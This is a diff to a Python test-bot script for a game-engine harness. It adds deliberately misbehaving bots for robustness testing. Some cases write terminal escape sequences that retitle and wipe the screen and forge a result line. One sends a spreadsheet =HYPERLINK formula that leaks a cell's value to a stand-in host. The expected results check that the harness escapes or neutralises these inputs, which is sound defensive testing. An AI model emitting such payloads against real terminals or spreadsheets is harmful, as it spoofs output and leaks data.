@@ -495,7 +495,7 @@ def say(bot, go):
     """Answers `--text` verbatim, after decoding backslash escapes (`\\x00`, `\\t`,
     `\\x1b`): for `e4 f5`, `E5`, `e10`, NUL and other control characters."""
     import codecs
-    write_raw(codecs.escape_decode(bot.args.text.encode())[0] + bot.line_end)
+    write_raw(codecs.escape_decode((bot.args.text or "hello").encode())[0] + bot.line_end)
 
 
 @behaviour("invalid-utf8", "go", "malformed-output")
@@ -593,6 +593,63 @@ def bad_handshake(bot):
     bot.handshake()
 
 
+# ---- text that must not reach the operator raw --------------------------------------------
+
+# A window title, a cleared screen, red text, a carriage return and a forged result line:
+# raw on a terminal, these retitle the window, wipe it and overwrite what it showed.
+TERMINAL_ESCAPES = (b"\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\rO (forged) wins\x07\n"
+                    b"\x1b[1A\x1b[2Kerased\n")
+
+
+@behaviour("stderr-escapes-exit", "hello",
+           "handshake-failure; the quoted stderr is escaped (`\\x1b`, `\\x07`, `\\r`), never raw")
+def stderr_escapes_exit(bot):
+    """Writes terminal escape sequences to stderr (window title, clear screen, colour,
+    a carriage return and a forged result line), then exits 4 instead of answering
+    `uttt 1`."""
+    write_all(2, TERMINAL_ESCAPES)
+    os._exit(4)
+
+
+@behaviour("stderr-escapes-crash", "go",
+           "crash (exit code 4); the quoted stderr is escaped (`\\x1b`, `\\x07`, `\\r`), never raw")
+def stderr_escapes_crash(bot, go):
+    """Writes the same escape sequences to stderr, then exits 4 instead of answering."""
+    write_all(2, TERMINAL_ESCAPES)
+    os._exit(4)
+
+
+@behaviour("info-after-move", "go",
+           "they count toward its next move: malformed-output above 256, accepted up to 256")
+def info_after_move(bot, go):
+    """Answers legally, then sends `--count` (default 300) `info` lines after its move,
+    in the same write: they arrive between its moves, before the next go."""
+    count = bot.args.count if bot.args.count is not None else 300
+    lines = [go.legal[0]] + [f"info depth {i} string between moves" for i in range(1, count + 1)]
+    write_raw("".join(line + bot.pad + bot.line_end.decode() for line in lines).encode())
+
+
+@behaviour("formula-info", "go",
+           "accepted: game completes; moves.csv's info cell starts with ' (not =), the score stays -35")
+def formula_info(bot, go):
+    """Sends `info score -35 string =HYPERLINK(...)` (or `info <--text>`), a spreadsheet
+    formula in the text, then answers legally."""
+    text = bot.args.text or 'score -35 string =HYPERLINK("https://example.invalid/?leak="&A1,"click")'
+    bot.send(f"info {text}")
+    bot.play_legal(go)
+
+
+@behaviour("long-info-crlf", "go",
+           "accepted at 4096 bytes (`\\r\\n` ends the line, it is not part of it); malformed-output above")
+def long_info_crlf(bot, go):
+    """Sends one `info` line of exactly `--bytes` bytes (default 4096, the limit) ended by
+    `\\r\\n`, then answers legally."""
+    size = bot.args.bytes if bot.args.bytes is not None else 4096
+    head = "info string "
+    write_raw((head + "x" * max(0, size - len(head))).encode()[:size] + b"\r\n")
+    bot.play_legal(go)
+
+
 # ---- illegal moves (these need the tracker) ----------------------------------------------
 
 @behaviour("occupied", "go", "illegal-move (occupied)")
@@ -665,10 +722,11 @@ def parse_args(argv):
     p.add_argument("--delay-ms", type=int, metavar="MS", help="sleep/spin length")
     p.add_argument("--over-ms", type=int, metavar="MS",
                    help="sleep the go's `time` plus MS (sleep-past-limit, answer-in-margin)")
-    p.add_argument("--bytes", type=int, metavar="N", help="size for huge-line, stderr-flood, last-words-exit")
-    p.add_argument("--count", type=int, metavar="N", help="info lines for flood-info")
+    p.add_argument("--bytes", type=int, metavar="N",
+                   help="size for huge-line, stderr-flood, last-words-exit, long-info-crlf")
+    p.add_argument("--count", type=int, metavar="N", help="info lines for flood-info, info-after-move")
     p.add_argument("--signal", default="SEGV", metavar="NAME", help="crash-signal's signal")
-    p.add_argument("--text", default="hello", help="the answer for `say`")
+    p.add_argument("--text", help="the answer for `say` (default hello); the info for formula-info")
     p.add_argument("--pidfile", metavar="PATH", help="fork-*: where the sleeper writes its pid")
     p.add_argument("--linger-s", type=float, default=1000, metavar="S",
                    help="fork-*: how long the sleeper sleeps (default 1000)")
